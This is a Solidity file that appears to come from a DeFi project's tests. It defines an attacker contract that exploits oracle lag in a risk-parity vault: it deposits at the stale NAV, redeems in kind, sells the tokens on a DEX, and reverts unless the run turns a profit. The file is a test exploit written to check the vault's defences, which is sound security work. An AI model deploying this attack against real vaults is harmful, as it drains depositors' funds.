// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {IERC4626} from "@openzeppelin/contracts/interfaces/IERC4626.sol";
import {IRiskParityVault} from "../../interfaces/IRiskParityVault.sol";
import {IUniswapV2Router02} from "../../interfaces/IUniswapV2Router02.sol";

/// @title LagArbitrageur
/// @notice Test-only attacker: in one transaction (what a flash loan funds), deposit at the vault's oracle NAV,
///         take the shares out in kind at once and sell every token on the DEX, where prices are ahead of the
///         lagging feeds. Reverts unless it ends with more base than it started with.
contract LagArbitrageur {
    error LagArbitrageurNoProfit(uint256 baseBefore, uint256 baseAfter);

    function attack(address vault, IUniswapV2Router02 router, uint256 assets) external {
        IERC20 base = IERC20(IERC4626(vault).asset());
        uint256 before = base.balanceOf(address(this));
        base.approve(vault, assets);
        uint256 shares = IERC4626(vault).deposit(assets, address(this));
        IRiskParityVault(vault).redeemInKind(shares, address(this), address(this));
        IRiskParityVault.AssetConfig[] memory a = IRiskParityVault(vault).assets();
        for (uint256 i = 1; i < a.length; ++i) {
            uint256 amount = IERC20(a[i].token).balanceOf(address(this));
            if (amount == 0) continue;
            IERC20(a[i].token).approve(address(router), amount);
            address[] memory path = new address[](2);
            (path[0], path[1]) = (a[i].token, address(base));
            router.swapExactTokensForTokens(amount, 0, path, address(this), block.timestamp);
        }
        uint256 afterwards = base.balanceOf(address(this));
        if (afterwards <= before) revert LagArbitrageurNoProfit(before, afterwards);
        base.transfer(msg.sender, afterwards);
    }
}
